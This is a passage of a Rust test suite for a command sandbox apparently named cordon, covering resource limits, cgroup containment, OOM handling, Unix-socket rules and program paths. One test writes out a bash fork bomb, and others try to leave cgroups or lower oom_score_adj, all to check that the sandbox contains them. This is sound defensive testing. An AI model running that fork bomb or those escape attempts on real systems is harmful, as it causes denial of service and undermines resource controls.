        let j = r.run.as_ref().unwrap().j().clone();
        assert_eq!(r.signal.as_deref(), Some("SIGXCPU"), "{mode}: RLIMIT_CPU ends the loop: {r:?}");
        assert_eq!(j["timed_out"], false, "{j}");
        assert_eq!(j["limit"], "cpu", "{mode}: the CPU limit must be reported\n{j}");
    }
});

case!(limits_ordinary_work_runs_under_the_default_limits, |c| {
    let ws = git_ws(c, "build");
    c.file(&ws.join("hello.c"), "#include <stdio.h>\nint main(void){puts(\"hi from c\");return 0;}\n");
    let mut o = c.opts(WORKSPACE_WRITE);
    o.cwd = Some(ws.clone());
    // AddressSanitizer reserves terabytes of shadow address space: a default memory
    // limit applied as RLIMIT_DATA (or RLIMIT_AS) would stop it from starting.
    let script = "cc -O2 -o hello hello.c && ./hello && git status --short && \
                  cc -fsanitize=address -o hello-asan hello.c && ASAN_OPTIONS=detect_leaks=0 ./hello-asan";
    let out = c.sh(&o, script)?;
    out.assert_success();
    assert!(out.out().contains("hi from c") && out.out().contains("?? hello.c"), "{out:?}");
    assert_eq!(out.out().matches("hi from c").count(), 2, "the ASan build must run too: {out:?}");
    let j = out.j();
    assert_eq!(j["limit"], serde_json::Value::Null, "{j}");
    assert_eq!(j["limits"]["pids"], 4096, "{j}");
    assert!(j["limits"]["memory"].as_u64().unwrap() > 256 << 20, "{j}");
});

case!(limits_serve_ceiling_limits_apply_and_cannot_be_raised, |c| {
    // `cordon serve --limit-pids 32`: every request gets the ceiling's limit, may
    // lower it, and is refused (CEILING_EXCEEDED) above it.
    let mut cmd = std::process::Command::new(&c.suite.cordon);
    cmd.env_clear().env("PATH", PATH_ENV).env("LANG", "C");
    c.id.apply(&mut cmd);
    if c.runner != "landlock" {
        cmd.env("CORDON_DISABLE_RUNNERS", "landlock");
    }
    cmd.args(["serve", "--mode", "workspace-write", "--limit-pids", "32", "--cwd"]).arg(&c.ws);
    cmd.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::null());
    cmd.current_dir(&c.ws);
    let mut child = cmd.spawn().expect("spawn cordon serve");
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    use std::io::{BufRead, Write};
    let mut call = |id: usize, params: serde_json::Value| -> serde_json::Value {
        let req = serde_json::json!({"jsonrpc": "2.0", "id": id, "method": "run", "params": params});
        writeln!(stdin, "{req}").unwrap();
        loop {
            let line = lines.next().expect("serve closed its output").unwrap();
            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
            if v["id"] == id {
                return v;
            }
        }
    };
    let mark = format!("serve-forkmark-{}", c.unique());
    let probe = s(&c.suite.probe);
    let r = call(1, serde_json::json!({"argv": [probe, "fork-loop", "2000", "60000", mark], "timeout_ms": 30000}));
    let res = &r["result"];
    let report = res["stdout"]["text"].as_str().unwrap_or_else(|| panic!("{r}"));
    assert!(report.contains("\"EAGAIN\""), "the ceiling's pids limit must stop the loop: {r}");
    assert_eq!(res["limits"]["pids"], 32, "{r}");
    // bubblewrap reports the command's exit before its pid namespace is torn down
    // (its pid 1 writes the status, then exits), so without a cgroup to sweep the
    // children may take a moment to die: wait for that, boundedly.
    let left = wait_gone(&mark);
    assert!(left.is_empty(), "processes {left:?} of the loop outlived the run: {r}");
    let r = call(2, serde_json::json!({"argv": [probe, "fork-loop", "2000", "60000", mark], "limit_pids": 8}));
    assert_eq!(r["result"]["limits"]["pids"], 8, "a request may lower the limit: {r}");
    let r = call(3, serde_json::json!({"argv": [probe, "true"], "limit_pids": 33}));
    assert_eq!(r["error"]["data"]["field"], "limit_pids", "raising the ceiling's limit must be refused: {r}");
    drop(stdin);
    let _ = child.wait();
});

/// A v1 memory cgroup with a limit, under the test's own, whose `cgroup.procs` the
/// identity may write (so a process of it can move itself in). Removed on drop.
struct OuterMemcg {
    dir: PathBuf,
}

impl OuterMemcg {
    fn new(c: &Ctx, limit: u64) -> Result<OuterMemcg, Skip> {
        let own = fs::read_to_string("/proc/self/cgroup")
            .unwrap_or_default()
            .lines()
            .find_map(|l| l.split_once(":memory:").map(|(_, p)| p.to_string()));
        let base = match own {
            Some(p) => PathBuf::from("/sys/fs/cgroup/memory").join(p.trim_start_matches('/')),
            None => return Err(Skip("no cgroup v1 memory hierarchy on this host".into())),
        };
        let dir = base.join(format!("cordon-test-outer-{}", c.unique()));
        fs::create_dir(&dir).map_err(|e| Skip(format!("cannot create a memory cgroup at {}: {e}", dir.display())))?;
        let cg = OuterMemcg { dir };
        fs::write(cg.dir.join("memory.limit_in_bytes"), limit.to_string()).unwrap();
        if cg.dir.join("memory.memsw.limit_in_bytes").exists() {
            fs::write(cg.dir.join("memory.memsw.limit_in_bytes"), limit.to_string()).unwrap();
        }
        chown(&cg.dir.join("cgroup.procs"), c.id.uid, c.id.gid);
        Ok(cg)
    }
}

impl Drop for OuterMemcg {
    fn drop(&mut self) {
        for _ in 0..200 {
            if fs::remove_dir(&self.dir).is_ok() {
                return;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

case!(limits_cordon_in_a_small_memory_cgroup_survives_a_full_tmp, |c| {
    // Measured before: cordon inside a 1 GiB memory cgroup, the command filling the
    // (then unbounded) private /tmp, and the cgroup's OOM killer took cordon, so the
    // caller got no result. Now the defaults are fractions of the enclosing limit,
    // the tmpfs is bounded, and the command is the OOM killer's first choice.
    // (Creating the enclosing cgroup needs the suite to run as root.)
    let outer = OuterMemcg::new(c, 512 << 20)?;
    let procs = outer.dir.join("cgroup.procs");
    let mut cmd = std::process::Command::new("/bin/sh");
    cmd.env_clear().env("PATH", PATH_ENV).env("LANG", "C");
    c.id.apply(&mut cmd);
    let script = r#"echo $$ > "$1" && shift && exec "$@""#;
    cmd.args(["-c", script, "sh", s(&procs), s(&c.suite.cordon), "run", "--json", "--timeout", "30"]);
    cmd.args(["--mode", WORKSPACE_WRITE, "--runner", &c.runner, "--cwd", s(&c.ws), "--"]);
    cmd.args([s(&c.suite.probe), "fill", "/tmp/fill", "2000000000"]);
    cmd.current_dir(&c.ws).stdin(std::process::Stdio::null());
    let out = cmd.output().expect("spawn cordon in the memory cgroup");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let j: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap_or_else(|_| {
        panic!(
            "cordon printed no result (was it OOM-killed?): {:?}\n{stdout}\n{}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let budget_share = j["limits"]["memory"].as_u64().unwrap_or(u64::MAX);
    assert!(budget_share <= 256 << 20, "the default must be half of the enclosing 512 MiB, not of the host: {j}");
    let report = j["stdout"]["text"].as_str().unwrap_or("");
    assert!(report.contains("\"ENOSPC\""), "/tmp must fill up to its size and answer ENOSPC: {j}");
    let bytes: u64 = report.split("bytes=").nth(1).and_then(|v| v.split(';').next()?.parse().ok()).unwrap_or(u64::MAX);
    assert!(bytes <= j["limits"]["tmpfs_size"].as_u64().unwrap(), "{j}");
});

case!(limits_without_cgroups_gaps_are_declared_and_hard_mode_refuses, |c| {
    // A host where cordon cannot create cgroups (emulated): an explicit limit that
    // the rlimits cannot enforce is a declared gap; without --best-effort nothing runs.
    let mut o = with_args(c.opts(WORKSPACE_WRITE), &["--limit-pids", "64", "--limit-memory", "64M"]);
    o.env = vec![("CORDON_DISABLE_CGROUPS".into(), "1".into())];
    let mark = format!("nocg-forkmark-{}", c.unique());
    let args = ["300", "60000", mark.as_str()];
    match c.probe_or_refusal(&o, "fork-loop", &args)? {
        Ok(r) => panic!("ran without --best-effort although limit-memory is per process only: {r:?}"),
        Err(out) => {
            assert_eq!(out.status.code(), Some(125), "{out:?}");
            assert!(out.stdout.contains("limit-memory"), "the refusal must name the gap: {out:?}");
            // uid 0 is exempt from RLIMIT_NPROC: without a pids cgroup that is a gap too.
            assert_eq!(out.stdout.contains("limit-pids"), c.id.is_root(), "{out:?}");
        }
    }
    let be = with_args(o.clone(), &["--best-effort"]);
    let r = c.probe_with(&be, "fork-loop", &args)?;
    let out = r.run.as_ref().unwrap();
    let gaps = gap_names(out);
    assert!(gaps.contains(&"limit-memory".to_string()), "{out:?}");
    if c.id.is_root() {
        assert!(gaps.contains(&"limit-pids".to_string()), "{out:?}");
        assert_eq!(out.j()["limits"]["pids_by"], "none", "{out:?}");
    } else {
        assert!(!gaps.contains(&"limit-pids".to_string()), "RLIMIT_NPROC holds for a uid other than 0: {out:?}");
        assert_eq!(r.errname, "EAGAIN", "the fork loop must end at the pids limit: {r:?}");
    }
    assert_eq!(out.j()["limit"], serde_json::Value::Null, "no cgroup, no evidence, no verdict: {out:?}");
    let left = wait_gone(&mark);
    assert!(left.is_empty(), "processes {left:?} outlived the run");
});

case!(limits_the_command_cannot_leave_its_cgroup_or_become_less_killable, |c| {
    // The command is the OOM killer's first choice (oom_score_adj 1000) and lives in
    // the run's cgroups: it may not undo either from inside.
    c.host_probe("overwrite", &["/proc/self/oom_score_adj", "0"]).assert_ok("control: oom_score_adj is writable");
    let procs =
        ["/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"];
    let procs: Vec<&str> = procs.into_iter().filter(|p| Path::new(p).exists()).collect();
    if c.id.is_root() {
        for p in &procs {
            c.host_probe("overwrite", &[p, "0"]).assert_ok("control: root may move itself between cgroups");
        }
    }
    for mode in CONFINED {
        let r = c.probe(mode, "overwrite", &["/proc/self/oom_score_adj", "0"])?;
        r.assert_refused_with(FS_DENIED, &format!("{mode}: lowering oom_score_adj"));
        for p in &procs {
            c.probe(mode, "overwrite", &[p, "0"])?
                .assert_refused_with(FS_DENIED, &format!("{mode}: leaving the cgroup via {p}"));
        }
        let r = c.probe(mode, "read", &["/proc/self/oom_score_adj"])?;
        assert!(r.detail.contains("1000"), "{mode}: the command must run with oom_score_adj 1000: {r:?}");
    }
});

case!(limits_a_bash_fork_bomb_is_contained, |c| {
    // The classic exponential bomb. Its first bash returns at once (the bomb lives in
    // background jobs), the script then waits 2 s without forking (`read -t` on a
    // pipe the test holds open) and counts the run's processes from inside its pid
    // namespace with builtins only; the run's end stops the rest. Never run without
    // --limit-pids.
    let mark = format!("bombmark-{}", c.unique());
    let (r, w) = nix::unistd::pipe().unwrap();
    let mut o = with_args(c.opts(WORKSPACE_WRITE), &["--limit-pids", "64", "--stdin"]);
    o.stdin = Some(std::sync::Arc::new(r));
    let script = format!(
        "bash -c 'f(){{ f|f& }};f' {mark} 2>/dev/null; read -t 2 _; shopt -s nullglob; p=(/proc/[0-9]*); \
         echo procs=${{#p[@]}}"
    );
    let out = c.cordon(&o, &["/bin/bash", "-c", &script])?;
    drop(w);
    let j = out.j();
    let procs: u64 =
        out.out().split("procs=").nth(1).and_then(|v| v.trim().parse().ok()).unwrap_or_else(|| panic!("{out:?}"));
    // The run's init (pid 1 here) is cordon's and outside the limit: it shares
    // cordon's memory and stays in cordon's cgroups (see the OOM case above).
    assert!(procs <= 64 + 1, "{procs} processes inside the run with --limit-pids 64 (and its init): {out:?}");
    assert!(procs > 3, "control: the bomb must have forked at all ({procs} processes): {out:?}");
    if j["limits"]["pids_by"].as_str().is_some_and(|m| m.starts_with("cgroup")) {
        assert_eq!(j["limit"], "pids", "the pids cgroup refused forks: {j}");
    }
    let left = wait_gone(&mark);
    assert!(left.is_empty(), "processes {left:?} of the bomb outlived the run");
});

case!(net_allow_unix_socket_review_findings, |c| {
    // An allowed socket inside the workspace is refused: the command could replace it
    // (with a link to another daemon's socket) between the check and the connect.
    let inside = c.ws.join("app.sock");
    let planted = UnixTrap::stream_path(c, &inside);
    let mut o = c.opts(WORKSPACE_WRITE);
    o.network = true;
    o.expect_error = true;
    o.extra_args = vec!["--allow-unix-socket".into(), s(&inside).into()];
    let out = c.cordon(&o, &[s(&c.suite.probe), "unix-connect", s(&inside)])?;
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_eq!(out.json.as_ref().and_then(|j| j["error"]["code"].as_str()), Some("INVALID_POLICY"), "{out:?}");
    planted.assert_untouched("an allowed socket inside the workspace");
    // A connect from a thread other than the main one reaches the allowed socket (the
    // supervisor takes the socket from that thread's descriptor table).
    let dir = SockDir::new();
    let ok_p = dir.0.join("ok.sock");
    let ok = UnixTrap::stream_path(c, &ok_p);
    let mut o = c.opts(WORKSPACE_WRITE);
    o.extra_args = vec!["--allow-unix-socket".into(), s(&ok_p).into()];
    let script = format!(
        "import socket, threading\nerr = []\ndef go():\n    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect({:?})\n    except OSError as e:\n        err.append(e)\nt = threading.Thread(target=go)\nt.start(); t.join()\nraise SystemExit(1 if err else 0)\n",
        s(&ok_p)
    );
    // The system interpreter (a per-user one, like pyenv's, is not readable by the
    // unprivileged identity).
    let py = Path::new("/usr/bin/python3");
    if !py.exists() {
        return Err(Skip("no /usr/bin/python3".into()));
    }
    let out = c.cordon(&o, &[s(py), "-c", &script])?;
    assert!(ok.touched_within(1000), "a thread's connect to the allowed socket did not arrive: {out:?}");
    out.assert_success();
});

// Issue 25 finding 9: a program named relative to the working directory (`./x.sh`,
// `sub/../x.sh`, through a symlinked directory) runs under every runner (bubblewrap
// refused it as "not normalized"). Judged by the file the script makes in the
// workspace.
case!(exec_program_paths_relative_to_the_workspace_run, |c| {
    use std::os::unix::fs::PermissionsExt;
    c.mkdir(&c.ws.join("sub"));
    c.symlink(&c.ws.join("sub"), &c.ws.join("link"));
    let script = c.file(&c.ws.join("x.sh"), "#!/bin/sh\ntouch \"ran-$1\"\n");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    for (i, program) in ["./x.sh", "sub/../x.sh", "./link/../x.sh", ".//x.sh"].into_iter().enumerate() {
        let tag = i.to_string();
        let out = c.cordon(&c.opts(WORKSPACE_WRITE), &[program, &tag])?;
        assert_eq!(out.exit_code(), Some(0), "{program} did not run: {out:?}");
        assert!(c.ws.join(format!("ran-{tag}")).exists(), "{program} ran but made nothing: {out:?}");
    }
});

// ---------------------------------------------------------------- hosts by name
#[path = "security/git_host.rs"]
mod git_host;
#[path = "security/held_writes.rs"]
mod held_writes;
#[path = "security/network_by_name.rs"]
mod network_by_name;
#[path = "security/private_layers.rs"]
mod private_layers;
